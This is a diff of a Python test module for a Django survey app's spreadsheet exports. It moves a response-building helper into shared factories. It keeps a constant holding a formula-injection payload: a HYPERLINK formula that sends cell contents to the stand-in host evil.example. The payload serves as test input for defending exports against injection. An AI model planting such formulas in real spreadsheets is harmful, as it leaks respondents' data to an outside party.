@@ -5,39 +5,15 @@ import io
 from datetime import datetime
 
 import pytest
-from django.utils import timezone
 from openpyxl import load_workbook
 
 from prongsai.orgs.models import AuditEvent, Membership
-from prongsai.surveys import exports, services
-from prongsai.surveys.models import Question, Survey
-from prongsai.surveys.tests.factories import mixed_survey, new_token
+from prongsai.surveys import exports
+from prongsai.surveys.models import Survey
+from prongsai.surveys.tests.factories import mixed_survey, respond
 
 Role = Membership.Role
 INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
-
-
-def respond(survey, *, at=None, contact=None, **by_text):
-    data = {}
-    for question in survey.questions.prefetch_related("choices"):
-        value = by_text.get(question.text)
-        if value is None:
-            continue
-        if question.kind in Question.CHOICE_KINDS:
-            labels = value if isinstance(value, list) else [value]
-            data[question.field_name] = [
-                str(c.pk) for c in question.choices.all() if c.label in labels
-            ]
-        else:
-            data[question.field_name] = [str(value)]
-    return services.submit_response(
-        survey=survey,
-        data=data,
-        token=new_token(),
-        at=timezone.make_aware(at) if at else None,
-        contact=contact,
-        consent=bool(contact),
-    )
 
 
 @pytest.fixture
